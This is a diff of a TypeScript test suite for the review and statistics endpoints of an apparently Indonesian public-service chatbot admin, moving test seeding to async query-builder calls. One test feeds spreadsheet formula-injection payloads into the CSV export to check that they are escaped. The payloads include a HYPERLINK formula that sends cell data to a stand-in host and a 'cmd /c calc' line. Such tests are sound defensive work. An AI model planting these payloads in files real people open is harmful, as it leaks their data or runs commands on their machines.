@@ -3,29 +3,56 @@ import { toCsv } from "../../src/admin/csv.js";
 import type { Db } from "../../src/store/database.js";
 import { adminApp, keyFor, type AdminTestApp } from "./helpers.js";
 
+/** A turn row with the columns the review and statistics read. */
+const turnRow = (
+  session_id: string,
+  channel: string,
+  question: string,
+  status: string,
+  evidence: number | null,
+  service_id: string | null,
+  created_at: string,
+) => ({
+  session_id,
+  channel,
+  question,
+  status,
+  answer: "",
+  citations: "[]",
+  evidence,
+  opd: null,
+  service_id,
+  latency_ms: 5,
+  created_at,
+});
+
 /** Seeds turns, feedback and submissions at fixed times (questions are stored masked already). */
-function seed(t: AdminTestApp): void {
+async function seed(t: AdminTestApp): Promise<void> {
   const db: Db = t.services.db;
-  const session = db.prepare("INSERT INTO sessions (id, channel, user_key, memory, created_at, updated_at) VALUES (?, ?, NULL, '{}', ?, ?)");
   for (const [id, ch] of [
     ["s1", "web"],
     ["s2", "telegram"],
     ["s3", "web"],
   ] as const)
-    session.run(id, ch, "2026-11-20T00:00:00.000Z", "2026-11-21T00:00:00.000Z");
-  const turn = db.prepare(
-    "INSERT INTO turns (session_id, channel, question, status, answer, citations, evidence, opd, service_id, latency_ms, created_at) VALUES (?, ?, ?, ?, '', '[]', ?, NULL, ?, 5, ?)",
-  );
-  turn.run("s1", "web", "cara urus izin reklame", "no_answer", null, null, "2026-11-20T08:00:00.000Z");
-  turn.run("s1", "web", "syarat ktp baru", "answered", 3.0, "ktp-el-baru", "2026-11-20T08:05:00.000Z");
-  turn.run("s2", "telegram", "cara mengurus izin reklame?", "no_answer", null, null, "2026-11-21T09:00:00.000Z");
-  turn.run("s3", "web", "biaya akta kelahiran", "answered", 0.9, "akta-kelahiran", "2026-11-21T10:00:00.000Z");
-  turn.run("s3", "web", "jam buka dukcapil", "answered", 2.5, "ktp-el-baru", "2026-11-21T10:05:00.000Z");
-  turn.run("s3", "web", "di luar rentang", "answered", 2.5, "ktp-el-baru", "2026-11-23T10:05:00.000Z");
-  const fb = db.prepare("INSERT INTO feedback (session_id, message_index, rating, channel, created_at) VALUES (?, ?, ?, 'web', ?)");
-  fb.run("s3", 1, "down", "2026-11-21T10:06:00.000Z");
-  fb.run("s1", 1, "up", "2026-11-20T08:06:00.000Z");
-  fb.run("s2", 0, "up", "2026-11-21T09:01:00.000Z");
+    await db
+      .insertInto("sessions")
+      .values({ id, channel: ch, user_key: null, memory: "{}", created_at: "2026-11-20T00:00:00.000Z", updated_at: "2026-11-21T00:00:00.000Z" })
+      .execute();
+  for (const turn of [
+    turnRow("s1", "web", "cara urus izin reklame", "no_answer", null, null, "2026-11-20T08:00:00.000Z"),
+    turnRow("s1", "web", "syarat ktp baru", "answered", 3.0, "ktp-el-baru", "2026-11-20T08:05:00.000Z"),
+    turnRow("s2", "telegram", "cara mengurus izin reklame?", "no_answer", null, null, "2026-11-21T09:00:00.000Z"),
+    turnRow("s3", "web", "biaya akta kelahiran", "answered", 0.9, "akta-kelahiran", "2026-11-21T10:00:00.000Z"),
+    turnRow("s3", "web", "jam buka dukcapil", "answered", 2.5, "ktp-el-baru", "2026-11-21T10:05:00.000Z"),
+    turnRow("s3", "web", "di luar rentang", "answered", 2.5, "ktp-el-baru", "2026-11-23T10:05:00.000Z"),
+  ])
+    await db.insertInto("turns").values(turn).execute();
+  for (const [session_id, message_index, rating, created_at] of [
+    ["s3", 1, "down", "2026-11-21T10:06:00.000Z"],
+    ["s1", 1, "up", "2026-11-20T08:06:00.000Z"],
+    ["s2", 0, "up", "2026-11-21T09:01:00.000Z"],
+  ] as const)
+    await db.insertInto("feedback").values({ session_id, message_index, rating, channel: "web", created_at }).execute();
   const subs = t.services.forms!.submissions;
   const base = {
     opd: "disdukcapil",
@@ -39,20 +66,20 @@ function seed(t: AdminTestApp): void {
     prefix: "KDI",
   };
   const at = new Date("2026-11-21T11:00:00.000Z");
-  subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
-  subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
-  const done = subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
-  subs.update(done.ticket, "selesai", "", "key_test");
-  subs.create({ ...base, serviceId: "akta-kelahiran" }, at);
+  await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
+  await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
+  const done = await subs.create({ ...base, serviceId: "ktp-el-baru" }, at);
+  await subs.update(done.ticket, "selesai", "", "key_test");
+  await subs.create({ ...base, serviceId: "akta-kelahiran" }, at);
 }
 
 describe("review and statistics", () => {
   let t: AdminTestApp;
-  let curator: ReturnType<typeof keyFor>;
+  let curator: Awaited<ReturnType<typeof keyFor>>;
   beforeAll(async () => {
     t = await adminApp();
-    curator = keyFor(t, "curator");
-    seed(t);
+    curator = await keyFor(t, "curator");
+    await seed(t);
   });
   afterAll(() => t.cleanup());
 
@@ -119,11 +146,12 @@ describe("review and statistics", () => {
   });
 
   it("neutralises review cells a spreadsheet would run as a formula", async () => {
-    const turn = t.services.db.prepare(
-      "INSERT INTO turns (session_id, channel, question, status, answer, citations, evidence, opd, service_id, latency_ms, created_at) VALUES ('s1', 'web', ?, 'no_answer', '', '[]', NULL, NULL, NULL, 5, ?)",
-    );
     const attacks = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+6281 pajak", "-2+3 retribusi", "@SUM(A1:A9) kios", "\tcmd /c calc"];
-    attacks.forEach((q, i) => turn.run(q, `2026-11-22T0${i}:00:00.000Z`));
+    for (const [i, q] of attacks.entries())
+      await t.services.db
+        .insertInto("turns")
+        .values(turnRow("s1", "web", q, "no_answer", null, null, `2026-11-22T0${i}:00:00.000Z`))
+        .execute();
     const lines = (await (await t.app.request("/api/admin/review.csv", { headers: curator.headers })).text()).split("\r\n");
     expect(lines).toContain('1,2026-11-22T00:00:00.000Z,no_answer,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")"');
     expect(lines).toContain("1,2026-11-22T01:00:00.000Z,no_answer,'+6281 pajak");
